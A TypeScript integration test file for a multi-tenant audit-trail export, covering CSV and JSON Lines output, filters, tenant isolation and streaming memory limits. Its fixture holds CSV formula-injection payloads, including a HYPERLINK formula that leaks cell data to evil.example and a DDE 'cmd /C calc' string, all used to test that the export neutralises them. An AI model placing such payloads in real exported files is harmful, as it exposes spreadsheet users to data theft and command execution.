import v8 from "node:v8";
import vm from "node:vm";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { AUDIT_ACTIONS, recordAuditEvent } from "@/lib/audit";
import { type ChainedFields, verifyChain } from "@/lib/audit/trail/chain";
import { estimateExportSize, startAuditExport } from "@/lib/audit/export/export";
import { indexChain } from "@/lib/audit/search/indexer";
import { EXPORT_COLUMNS } from "@/lib/audit/export/export-format";
import { grantVendorAdmins } from "@/lib/auth/grant-vendor-admins";
import type { Principal } from "@/lib/auth/principal";
import { disconnectDb, getDb } from "@/lib/db";
import type { AuditEvent } from "@/lib/db/generated/client";
import type { RequestMeta } from "@/lib/http/request-meta";
import type { Caller } from "@/lib/authz";
import { addMember, createTenant } from "@/lib/tenants";
import { createTestDatabase, type TestDatabase } from "../helpers/db";
import { refusal } from "../helpers/refusal";
import { runScript } from "../helpers/run-script";

// The audit export against real PostgreSQL: what the files hold (parsed back with a real CSV
// parser, JSON Lines re-hashed), the filter, the export's own audit event, tenant isolation,
// and that a 100k-event export streams in bounded memory. The route handler is exercised with
// the session read stubbed (its status codes and headers); e2e/audit-export.spec.ts covers the
// real sign-in and download.

const principal = vi.hoisted(() => ({ current: null as null | { userId: string; email: string } }));
vi.mock("@/lib/auth/principal", () => ({
  getPrincipal: async (): Promise<Principal | null> =>
    principal.current ? { ...principal.current, name: null, isVendorAdmin: false, tenants: [] } : null,
  callerFor: async (p: Principal): Promise<Caller> => ({ userId: p.userId, request }),
}));

// How many events the export has taken from the database reader so far.
const pulled = vi.hoisted(() => ({ events: 0 }));
vi.mock("@/lib/audit/query/query", async (importOriginal) => {
  const actual = await importOriginal<typeof import("@/lib/audit/query/query")>();
  return {
    ...actual,
    async *streamAuditEvents(...args: Parameters<typeof actual.streamAuditEvents>) {
      pulled.events = 0;
      for await (const event of actual.streamAuditEvents(...args)) {
        pulled.events += 1;
        yield event;
      }
    },
  };
});

const request: RequestMeta = { sourceIp: "198.51.100.4", userAgent: "vitest export", requestId: "req-export-1" };
let database: TestDatabase;
let acme: { id: string; admin: Caller; auditor: Caller };
let stark: { id: string; admin: Caller };
let vendor: Caller;

async function callerOf(email: string): Promise<Caller> {
  return { userId: (await getDb().user.findUniqueOrThrow({ where: { email } })).id, request };
}

/** Every event of a chain, newest first, as stored. */
function chainEvents(chain: string): Promise<AuditEvent[]> {
  return getDb().auditEvent.findMany({ where: { chain }, orderBy: [{ occurredAt: "desc" }, { seq: "desc" }] });
}

async function exportText(caller: Caller, slug: string, query: string): Promise<string> {
  const started = await startAuditExport(caller, slug, new URLSearchParams(query));
  return new Response(started.body).text();
}

function csvRecords(text: string): Array<Record<string, string>> {
  return parse(text, { columns: true, relax_column_count: false }) as Array<Record<string, string>>;
}

function jsonRecords(text: string): Array<Record<string, unknown>> {
  expect(text.endsWith("\n")).toBe(true);
  return text
    .slice(0, -1)
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

const TRICKY = {
  actorLabel: 'Ops, "night" shift\nteam',
  userAgent: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  sourceIp: "-1+1",
  requestId: "@SUM(A1:A9)",
  details: { note: "+cmd|' /C calc'!A0", objectId: "obj\t1", tab: "\tindent" },
};

beforeAll(async () => {
  database = await createTestDatabase();
  process.env.DATABASE_URL = database.url;
  await grantVendorAdmins(["ops@vendor.example"]);
  vendor = await callerOf("ops@vendor.example");

  const a = await createTenant(vendor, { name: "Acme", slug: "acme", adminEmail: "ada@acme.example" });
  const acmeAdmin = await callerOf("ada@acme.example");
  await addMember(acmeAdmin, { tenantId: a.tenantId, email: "audrey@acme.example", role: "auditor" });
  acme = { id: a.tenantId, admin: acmeAdmin, auditor: await callerOf("audrey@acme.example") };
  const s = await createTenant(vendor, { name: "Stark", slug: "stark", adminEmail: "tony@stark.example" });
  stark = { id: s.tenantId, admin: await callerOf("tony@stark.example") };

  // A spread of key-service events to filter, and one whose every caller-supplied field is hostile.
  for (let n = 0; n < 24; n++) {
    await recordAuditEvent({
      tenantId: acme.id,
      actor: { type: "service", id: `cred-${n % 2}`, label: n % 2 ? "billing-app" : "search-indexer" },
      action: n % 3 === 0 ? AUDIT_ACTIONS.keyWrap : AUDIT_ACTIONS.keyUnwrap,
      target: { type: "tenant_key", id: "7d1f1c5e-33a4-4b4e-9a53-3d3f6b8c0a01" },
      outcome: n % 4 === 0 ? "denied" : "success",
      request: { sourceIp: `10.0.0.${n}`, userAgent: "custody-sdk/0.1", requestId: `req-${n}` },
      details: { dataLabel: n % 2 ? "invoices" : "payroll", objectId: `obj-${n}` },
    });
  }
  await recordAuditEvent({
    tenantId: acme.id,
    actor: { type: "service", id: "cred-x", label: TRICKY.actorLabel },
    action: AUDIT_ACTIONS.keyUnwrap,
    outcome: "success",
    request: { sourceIp: TRICKY.sourceIp, userAgent: TRICKY.userAgent, requestId: TRICKY.requestId },
    details: TRICKY.details,
  });
  // Stark's trail holds a marker that must never appear in Acme's exports.
  await recordAuditEvent({
    tenantId: stark.id,
    actor: { type: "service", id: "cred-s", label: "stark-secret-app" },
    action: AUDIT_ACTIONS.keyUnwrap,
    outcome: "success",
    request: { sourceIp: null, userAgent: null, requestId: "stark-req" },
  });
});

afterAll(async () => {
  await disconnectDb();
  await database?.drop();
});

beforeEach(() => {
  principal.current = null;
});

describe("the CSV export", () => {
  it("parses back to the tenant's events, newest first, every field in its column", async () => {
    const text = await exportText(acme.auditor, "acme", "format=csv");
    expect(text.startsWith(`${EXPORT_COLUMNS.join(",")}\r\n`)).toBe(true);
    const rows = csvRecords(text);
    const stored = await chainEvents(acme.id);
    // The export's own event is committed before the first byte, so the file ends at it.
    expect(stored[0]).toMatchObject({ action: "audit.exported" });
    expect(rows.map((r) => r.seq)).toEqual(stored.map((e) => e.seq.toString()));
    for (const [i, event] of stored.entries()) {
      if (event.actorLabel === TRICKY.actorLabel) continue; // checked below, with its guarded cells
      expect(rows[i]).toEqual({
        chain: acme.id,
        seq: event.seq.toString(),
        occurredAt: event.occurredAt.toISOString(),
        tenantId: acme.id,
        actorType: event.actorType.toLowerCase(),
        actorId: event.actorId ?? "",
        actorLabel: event.actorLabel ?? "",
        action: event.action,
        targetType: event.targetType ?? "",
        targetId: event.targetId ?? "",
        outcome: event.outcome.toLowerCase(),
        sourceIp: event.sourceIp ?? "",
        userAgent: event.userAgent ?? "",
        requestId: event.requestId ?? "",
        details: event.details === null ? "" : JSON.stringify(event.details),
        prevHash: event.prevHash,
        hash: event.hash,
      });
    }
    expect(text).not.toContain("stark-secret-app");
  });

  it("quotes commas, quotes and line breaks, and keeps formula-like cells as text", async () => {
    const all = csvRecords(await exportText(acme.auditor, "acme", "format=csv"));
    const hostile = all.find((r) => r.actorId === "cred-x");
    expect(hostile).toBeDefined();
    // Commas, quotes and the line break survive quoting unchanged.
    expect(hostile!.actorLabel).toBe(TRICKY.actorLabel);
    // A spreadsheet would run these; each gets a leading apostrophe and is otherwise intact.
    expect(hostile!.userAgent).toBe(`'${TRICKY.userAgent}`);
    expect(hostile!.sourceIp).toBe(`'${TRICKY.sourceIp}`);
    expect(hostile!.requestId).toBe(`'${TRICKY.requestId}`);
    // details is one JSON cell; it starts with "{", so it is safe and parses back exactly.
    expect(JSON.parse(hostile!.details!)).toEqual(TRICKY.details);
    for (const row of all) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("the JSON Lines export", () => {
  it("round-trips every field, and the chain verifies from the file alone", async () => {
    const records = jsonRecords(await exportText(acme.admin, "acme", "format=jsonl"));
    const stored = await chainEvents(acme.id);
    expect(records).toHaveLength(stored.length);
    for (const [i, event] of stored.entries()) {
      expect(Object.keys(records[i]!)).toEqual([...EXPORT_COLUMNS]);
      expect(records[i]).toEqual({
        chain: event.chain,
        seq: event.seq.toString(),
        occurredAt: event.occurredAt.toISOString(),
        tenantId: event.tenantId,
        actorType: event.actorType.toLowerCase(),
        actorId: event.actorId,
        actorLabel: event.actorLabel,
        action: event.action,
        targetType: event.targetType,
        targetId: event.targetId,
        outcome: event.outcome.toLowerCase(),
        sourceIp: event.sourceIp,
        userAgent: event.userAgent,
        requestId: event.requestId,
        details: event.details,
        prevHash: event.prevHash,
        hash: event.hash,
      });
    }
    // Oldest first, the file's own fields recompute every hash and link from the genesis.
    const chained = records
      .map((r) => ({ ...r, seq: BigInt(r.seq as string), occurredAt: new Date(r.occurredAt as string) }))
      .reverse() as unknown as Array<ChainedFields & { prevHash: string; hash: string }>;
    expect(verifyChain(chained)).toBeNull();
    expect(records.find((r) => r.actorId === "cred-x")).toMatchObject({ userAgent: TRICKY.userAgent, details: TRICKY.details });
  });
});

describe("the filter", () => {
  it("applies every condition at once, exactly as the stored rows say", async () => {
    const stored = (await chainEvents(acme.id)).filter((e) => e.action === "key.unwrap" || e.action === "key.wrap");
    const oldestFirst = [...stored].reverse();
    const from = oldestFirst[3]!.occurredAt;
    const to = oldestFirst[20]!.occurredAt;
    const query = new URLSearchParams({
      format: "jsonl",
      action: "key.unwrap",
      outcome: "success",
      actor: "billing-app",
      label: "invoices",
      from: from.toISOString(),
      to: to.toISOString(),
    });
    const records = jsonRecords(await exportText(acme.auditor, "acme", query.toString()));
    const expected = stored.filter(
      (e) =>
        e.action === "key.unwrap" &&
        e.outcome === "SUCCESS" &&
        e.actorLabel === "billing-app" &&
        (e.details as { dataLabel?: string } | null)?.dataLabel === "invoices" &&
        e.occurredAt >= from &&
        e.occurredAt < to,
    );
    expect(expected.length).toBeGreaterThan(1);
    expect(expected.length).toBeLessThan(stored.length / 4);
    expect(records.map((r) => r.seq)).toEqual(expected.map((e) => e.seq.toString()));
  });

  it("ignores the page's paging parameters and exports the whole filter", async () => {
    const paged = jsonRecords(await exportText(acme.auditor, "acme", "format=jsonl&action=key.wrap&limit=1&before=1_1&seq=3"));
    const all = (await chainEvents(acme.id)).filter((e) => e.action === "key.wrap");
    expect(paged.map((r) => r.seq)).toEqual(all.map((e) => e.seq.toString()));
  });

  it("refuses a bad format or filter with a clear message, before recording anything", async () => {
    const before = await getDb().auditEvent.count();
    const cases: Array<[string, string, RegExp]> = [
      ["format=xlsx", "format", /format=csv or format=jsonl/],
      ["", "format", /format=csv or format=jsonl/],
      ["format=csv&outcome=maybe", "outcome", /Choose success, denied or failure/],
      ["format=csv&action=DROP TABLE", "action", /Not an action/],
      ["format=csv&from=2026-11-29T10:00:00Z&to=2026-11-28T10:00:00Z", "to", /must be after its start/],
      ["format=csv&from=yesterday", "from", /time zone/],
      ["format=csv&key=not-a-uuid", "key", /Not a key id/],
      [`format=csv&q=${"x".repeat(500)}`, "q", /at most 200/],
    ];
    for (const [query, field, message] of cases) {
      const error = await refusal(exportText(acme.auditor, "acme", query));
      expect(error.code, query).toBe("bad_request");
      expect(error.message).toMatch(message);
      expect(Object.keys(error.fieldErrors ?? {})).toContain(field);
    }
    expect(await getDb().auditEvent.count()).toBe(before);
  });
});

describe("the export's own audit event", () => {
  it("is committed in the tenant's chain, by the member, with format and filter, before the first byte", async () => {
    const started = await startAuditExport(acme.auditor, "acme", new URLSearchParams("format=csv&outcome=denied&action=key.wrap"));
    // Nothing has been read from the body yet.
    const [newest] = await chainEvents(acme.id);
    expect(newest).toMatchObject({
      action: "audit.exported",
      outcome: "SUCCESS",
      actorType: "USER",
      actorId: acme.auditor.userId,
      actorLabel: "audrey@acme.example",
      targetType: "tenant",
      targetId: acme.id,
      sourceIp: request.sourceIp,
      userAgent: request.userAgent,
      requestId: request.requestId,
    });
    expect(newest!.details).toEqual({ format: "csv", filter: "action=key.wrap&outcome=denied" });
    const rows = csvRecords(await new Response(started.body).text());
    expect(started.estimate.events).toBe(rows.length);
    expect(rows.length).toBeGreaterThan(0);
  });

  it("when it cannot be recorded, the export does not start", async () => {
    await getDb().$executeRawUnsafe(`
      CREATE FUNCTION test_refuse_export() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN RAISE EXCEPTION 'audit store unavailable'; END $$;
      CREATE TRIGGER test_refuse_export BEFORE INSERT ON audit_events
        FOR EACH ROW WHEN (NEW.action = 'audit.exported') EXECUTE FUNCTION test_refuse_export();`);
    try {
      const before = await getDb().auditEvent.count({ where: { chain: acme.id } });
      await expect(startAuditExport(acme.auditor, "acme", new URLSearchParams("format=jsonl"))).rejects.toThrow();
      expect(await getDb().auditEvent.count({ where: { chain: acme.id } })).toBe(before);
    } finally {
      await getDb().$executeRawUnsafe("DROP TRIGGER test_refuse_export ON audit_events; DROP FUNCTION test_refuse_export();");
    }
  });
});

describe("tenant isolation", () => {
  it("another tenant's member, a vendor admin and an unknown slug all get the same not-found, and nothing is recorded", async () => {
    const before = await getDb().auditEvent.count();
    const attempts: Array<[Caller, string]> = [
      [stark.admin, "acme"],
      [vendor, "acme"],
      [acme.auditor, "stark"],
      [acme.auditor, "no-such-tenant"],
      [acme.auditor, "ACME"],
    ];
    const messages = new Set<string>();
    for (const [caller, slug] of attempts) {
      // Bad parameters too: a non-member learns nothing from the parameter checks either.
      for (const query of ["format=csv", "format=bogus&outcome=maybe"]) {
        const error = await refusal(exportText(caller, slug, query));
        expect(error.code).toBe("not_found");
        messages.add(error.message);
      }
    }
    expect([...messages]).toEqual(["No such tenant."]);
    expect(await getDb().auditEvent.count()).toBe(before);
  });

  it("a member's export holds only their own tenant's events, whatever the filter", async () => {
    for (const query of ["format=jsonl", "format=jsonl&q=stark-secret", "format=jsonl&request=stark-req", "format=jsonl&actor=stark-secret-app"]) {
      const text = await exportText(acme.auditor, "acme", query);
      expect(text).not.toContain("stark");
      for (const record of text ? jsonRecords(text) : []) expect(record.chain).toBe(acme.id);
    }
    const own = jsonRecords(await exportText(stark.admin, "stark", "format=jsonl&request=stark-req"));
    expect(own.map((r) => r.actorLabel)).toEqual(["stark-secret-app"]);
  });
});

describe("GET /t/<slug>/audit/export", () => {
  async function get(slug: string, query: string): Promise<Response> {
    const { GET } = await import("@/app/(tenant)/t/[slug]/audit/export/route");
    return GET(new Request(`http://localhost/t/${slug}/audit/export?${query}`), { params: Promise.resolve({ slug }) });
  }
  const as = (email: string, caller: Caller) => (principal.current = { userId: caller.userId, email });

  it("streams the file as a download that is never cached or sniffed, with a size hint", async () => {
    as("audrey@acme.example", acme.auditor);
    const response = await get("acme", "format=csv&action=key.wrap");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="custody-audit-acme-\d{8}T\d{6}Z\.csv"$/);
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    const rows = csvRecords(await response.text());
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.action === "key.wrap")).toBe(true);
    expect(response.headers.get("x-custody-export-estimate")).toBe(String(rows.length));
    expect(response.headers.get("x-custody-export-estimate-exact")).toBe("true");

    const jsonl = await get("acme", "format=jsonl");
    expect(jsonl.headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
    expect(jsonl.headers.get("content-disposition")).toMatch(/filename="custody-audit-acme-\d{8}T\d{6}Z\.jsonl"$/);
    await jsonl.body?.cancel();
  });

  it("answers 401 signed out, 404 to a non-member and 400 to a bad filter, as JSON errors", async () => {
    const before = await getDb().auditEvent.count();
    const signedOut = await get("acme", "format=csv");
    expect(signedOut.status).toBe(401);
    expect(await signedOut.json()).toEqual({ error: { code: "unauthenticated", message: "Sign in to export the audit trail." } });

    as("tony@stark.example", stark.admin);
    for (const slug of ["acme", "no-such-tenant"]) {
      const response = await get(slug, "format=csv");
      expect(response.status).toBe(404);
      expect(response.headers.get("content-disposition")).toBeNull();
      expect(await response.json()).toEqual({ error: { code: "not_found", message: "No such tenant." } });
    }

    as("audrey@acme.example", acme.auditor);
    const bad = await get("acme", "format=csv&from=2026-11-29T10:00:00Z&to=2026-11-28T10:00:00Z");
    expect(bad.status).toBe(400);
    const body = (await bad.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe("bad_request");
    expect(body.error.message).toContain("The end of the time range must be after its start.");
    expect(await getDb().auditEvent.count()).toBe(before);
  });
});

describe("a 100k-event export", () => {
  // gc() on demand, so heap readings are what is retained, not garbage not yet collected.
  v8.setFlagsFromString("--expose-gc");
  const gc = vm.runInNewContext("gc") as () => void;
  const retained = () => {
    gc();
    const { heapUsed, arrayBuffers } = process.memoryUsage();
    return heapUsed + arrayBuffers;
  };
  const MB = 1024 * 1024;

  it("streams in bounded memory, reading only as fast as the reader takes it", { timeout: 360_000 }, async () => {
    const seeded = await runScript("seed-audit.ts", ["--events", "100000", "--tenant", "bulk"], { DATABASE_URL: database.url });
    expect(seeded.code, seeded.out).toBe(0);
    const bulk = await getDb().tenant.findUniqueOrThrow({ where: { slug: "bulk" } });
    await getDb().membership.create({ data: { tenantId: bulk.id, userId: acme.auditor.userId, role: "AUDITOR" } });

    const baseline = retained();
    const started = await startAuditExport(acme.auditor, "bulk", new URLSearchParams("format=csv"));
    expect(started.estimate).toEqual({ events: 100_001, exact: true });
    const reader = started.body.getReader();

    // A slow reader: one chunk taken, then a pause in which a pushing stream would read on.
    let bytes = 0;
    let lines = 0;
    const take = (chunk: Uint8Array) => {
      bytes += chunk.byteLength;
      for (const byte of chunk) if (byte === 0x0a) lines += 1;
    };
    const first = await reader.read();
    take(first.value!);
    // The reader takes nothing for a while: a pause that gives a pushing stream time to read on
    // (the first chunk already arrived, so a correct stream passes however slow the machine).
    await new Promise((resolve) => setTimeout(resolve, 2_000));
    // Two 64 KiB chunks' worth (one handed over, one queued), not the thousands a pushing stream reads.
    expect(pulled.events).toBeGreaterThan(0);
    expect(pulled.events).toBeLessThan(400);
    let peak = retained() - baseline;

    let nextSample = 4 * MB;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      take(value);
      if (bytes >= nextSample) {
        peak = Math.max(peak, retained() - baseline);
        nextSample += 4 * MB;
      }
    }
    expect(lines).toBe(100_001 + 1); // the header, the seeded events and the export's own
    expect(pulled.events).toBe(100_001);
    // The whole file would be tens of MB (and twice that as JS strings); what stays in memory is
    // one database batch and a chunk or two.
    expect(bytes).toBeGreaterThan(40 * MB);
    expect(peak).toBeLessThan(16 * MB);
    expect(peak).toBeLessThan(bytes / 4);

    // Past 10,000 matches the size hint is the planner's estimate, not a count over the trail.
    await getDb().$executeRawUnsafe("ANALYZE audit_events");
    const unwraps = await getDb().auditEvent.count({ where: { chain: bulk.id, action: "key.unwrap" } });
    const estimate = await estimateExportSize(bulk.id, { action: "key.unwrap" });
    expect(estimate.exact).toBe(false);
    expect(estimate.events).toBeGreaterThan(unwraps / 2);
    expect(estimate.events).toBeLessThan(unwraps * 2);
    // A request id lives in audit_search (lib/audit/search), which the background job fills.
    await indexChain(bulk.id, { budgetMs: 300_000, batchSize: 20_000 });
    expect(await estimateExportSize(bulk.id, { request: "seed-12345" })).toEqual({ events: 1, exact: true });
  });
});
